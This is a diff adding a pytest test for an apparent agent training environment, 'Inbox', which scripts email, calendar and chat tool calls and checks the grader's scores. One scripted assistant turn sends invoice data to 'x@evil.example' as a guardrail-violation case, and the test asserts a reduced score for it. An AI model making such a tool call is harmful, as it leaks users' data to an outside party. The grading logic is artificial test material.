@@ -2,6 +2,7 @@
 `nemo-jax grpo` run end to end (reward rises on a bandit-style task; a SIGKILLed run resumes)."""
 
 import json
+import re
 import os
 import signal
 import subprocess
@@ -235,3 +236,41 @@ def test_shipped_grpo_configs_load():
         assert c.name and c.lora.targets and c.rollout.group_size >= 2, name
     with pytest.raises(ValueError, match="rollout.producer=none needs rollout.spool"):
         load_grpo_config(os.path.join(ROOT, "configs/grpo/tiny-cpu.yaml"), ["rollout.producer=none"])
+
+
+def test_inbox_tools_checks_and_guardrails():
+    from nemo_jax.rl.envs import Inbox
+
+    env = make_env("inbox", n_train=30, n_eval=3, seed=2)
+    assert isinstance(env, Inbox) and env.max_turns > 1
+    tasks = env.tasks("train")
+    kinds = {t.family for t in tasks}
+    assert kinds == {"inbox-meeting", "inbox-invoice", "inbox-relay"}
+    call = lambda name, **a: f'<tool_call>{json.dumps({"name": name, "arguments": a})}</tool_call>'  # noqa: E731
+    for t in tasks[:9]:
+        h = list(t.messages) + [{"role": "assistant", "content": "Let me look. " + call("read_email", id="e1")
+                                 + call("read_email", id="e2")}]
+        res = env.respond(t, h)  # the looked-up emails come back as tool messages
+        assert [m["role"] for m in res] == ["tool", "tool"] and "e1" in res[0]["content"]
+        e1, e2 = (json.loads(m["content"])["result"] for m in res)
+        day, hour = re.search(r"on (\S+) at (\d\d:\d\d)", e1["body"]).groups()
+        amount = re.search(r"pay (\S+) USD", e2["body"]).group(1)
+        checks = dict(t.data["checks"])
+        if t.family == "inbox-meeting":
+            act = call("create_event", title="meeting", date=day, time=hour, attendees=[e1["from"]])
+        elif t.family == "inbox-invoice":
+            act = call("send_email", to=checks["email_to"], subject="invoice", body=f"It is {amount} USD.")
+        else:
+            act = call("post_chat", channel="#general", text=f"The invoice is {amount} USD.")
+        h = h + res + [{"role": "assistant", "content": act}]
+        assert env.respond(t, h)[0]["content"].endswith('"result": {"ok": true}}')
+        done = h + env.respond(t, h) + [{"role": "assistant", "content": "Done."}]
+        assert env.respond(t, done) is None and env.score(t, done) == Score(1.0, True), t.family
+        # partial credit: the right kind of action with a wrong detail; and a guardrail violation
+        wrong = act.replace(day, "2026-01-01").replace(amount, "0.00")
+        s = env.score(t, h[:-1] + [{"role": "assistant", "content": wrong}])
+        assert 0.0 < s.reward < 1.0 and not s.success
+        leak = h + [{"role": "assistant", "content": call("send_email", to="x@evil.example", body=amount)}]
+        assert env.score(t, leak).reward == 0.5 and not env.score(t, leak).success
+    assert env.score(tasks[0], list(tasks[0].messages) + [{"role": "assistant", "content": "<tool_call>{oops"
+                                                                                          "}</tool_call>"}]).reward == 0
